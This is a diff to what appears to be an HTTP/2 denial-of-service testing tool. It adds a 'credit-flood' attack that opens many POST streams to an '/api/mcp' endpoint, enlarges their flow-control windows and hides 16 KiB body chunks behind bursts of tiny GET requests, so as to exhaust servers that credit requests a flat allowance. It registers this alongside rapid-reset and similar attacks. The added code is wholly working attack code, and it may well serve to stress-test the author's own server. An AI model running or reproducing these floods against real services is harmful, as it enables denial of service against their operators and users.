@@ -218,6 +218,45 @@ def run_body_flood(c, a):
         c.idle(0.1)
 
 
+def run_credit_flood(c, a):
+    """Body on open POST streams, each 16 KiB of it behind 8 tiny GETs: buys body room if a request is credited a flat
+    allowance rather than what its headers cost."""
+    streams = [1 + 2 * i for i in range(a.streams)]
+    for s in streams:
+        c.queue(frame(HEADERS, END_HEADERS, s, request_block("POST", "/api/mcp", c.authority(), "application/json")))
+        c.windows[s] = 16777216
+    left = {s: a.body for s in streams}
+    nxt = 1 + 2 * a.streams
+    get_block = request_block("GET", "/healthz", c.authority())
+    chunk = b"x" * 16384
+    deadline = c.start + a.duration
+    sent = 0
+    while time.time() < deadline and any(left.values()):
+        c.pump(0.005)
+        if len(c.out) > 64 * 1024:
+            continue
+        time.sleep(0.02)
+        batch = b""
+        for _ in range(8):
+            batch += frame(HEADERS, END_HEADERS | END_STREAM, nxt, get_block)
+            nxt += 2
+        budget = 8 * 16384 - 2048
+        for s in streams:
+            n = min(16384, left[s], c.conn_window, c.windows[s], budget)
+            if n <= 0:
+                continue
+            batch += frame(DATA, 0, s, chunk[:n])
+            c.conn_window -= n
+            c.windows[s] -= n
+            left[s] -= n
+            budget -= n
+            sent += n
+        c.queue(batch)
+        c.stat = {"body_bytes_queued": sent}
+    while time.time() < deadline:
+        c.idle(0.1)
+
+
 def run_hold(c, a):
     for i in range(a.streams):
         c.queue(frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block("POST", "/api/mcp", c.authority(), "application/json")))
@@ -308,6 +347,7 @@ def run_slow_h2(c, a):
 
 ATTACKS = {
     "body-flood": (H2, run_body_flood),
+    "credit-flood": (H2, run_credit_flood),
     "hold": (H2, run_hold),
     "rapid-reset": (H2, run_rapid_reset),
     "made-you-reset": (H2, run_made_you_reset),
